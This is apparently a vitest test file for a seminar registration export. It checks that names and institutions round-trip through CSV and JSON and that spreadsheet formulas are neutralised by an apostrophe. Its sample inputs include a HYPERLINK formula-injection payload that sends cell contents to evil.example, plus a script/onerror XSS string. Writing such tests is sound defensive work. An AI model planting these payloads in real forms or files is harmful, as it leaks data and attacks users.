import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { Registration } from "../../model/index.js";
import { type ExportEntry, registrationsFile } from "./export.js";

// What a visitor may type in the public form, read back from the export by independent parsers.
const TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
  "+55 11 1234",
  "-2+3",
  "@SUM(A1:A9)",
  "\tTab-led",
  "＝Full-width formula",
  'The "Agency", Inc.\nSecond line; third',
  "Ministerio\r\n=line two is inside the cell",
  "<script>alert(1)</script><img src=x onerror=alert(2)>",
  "Ñandú José, São Paulo — Côte d’Ivoire",
];

const unescapeFormula = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20])/, "");

function entry(index: number, name: string, institution: string): ExportEntry {
  const record: Registration & { id: string } = {
    id: index.toString(16).padStart(32, "0"),
    eventId: "seminar-2027",
    name,
    address: `person${index}@example.org`,
    institution,
    country: "CL",
    category: "observer",
    lang: "es",
    sessions: [0, 2],
    publicListConsent: false,
    requestedAtMs: Date.UTC(2027, 0, 1) + index,
    status: { state: "waitlisted", seq: index + 1, atMs: Date.UTC(2027, 0, 2) },
  };
  return { record, position: index + 1 };
}

const entries = TEXTS.map((text, i) => entry(i, text, TEXTS[TEXTS.length - 1 - i] ?? ""));

describe("the registrations export", () => {
  it("gives back every name and institution exactly from the CSV, formulas neutralised by an apostrophe", () => {
    const file = registrationsFile("seminar-2027", "csv", entries);
    expect(file.filename).toBe("registrations-seminar-2027.csv");
    const rows = parse(file.content, { columns: true, bom: true, relax_quotes: false }) as Record<string, string>[];
    expect(rows).toHaveLength(TEXTS.length);
    rows.forEach((row, i) => {
      expect(unescapeFormula(row.name ?? ""), `name ${i}`).toBe(TEXTS[i]);
      expect(unescapeFormula(row.institution ?? ""), `institution ${i}`).toBe(TEXTS[TEXTS.length - 1 - i]);
      expect(row.email).toBe(`person${i}@example.org`);
      expect(row.sessions).toBe("1; 3");
      expect(row.state).toBe("waitlisted");
      expect(row.waitingListPosition).toBe(String(i + 1));
    });
    // No cell starts a formula in a spreadsheet: every one that would is led by the apostrophe.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it("gives back every record exactly from the JSON", () => {
    const file = registrationsFile("seminar-2027", "json", entries);
    const parsed = JSON.parse(file.content) as { eventId: string; registrations: { name: string; email: string }[] };
    expect(parsed.eventId).toBe("seminar-2027");
    expect(parsed.registrations.map((r) => r.name)).toEqual(TEXTS);
    expect(parsed.registrations.map((r) => r.email)).toEqual(TEXTS.map((_t, i) => `person${i}@example.org`));
  });
});
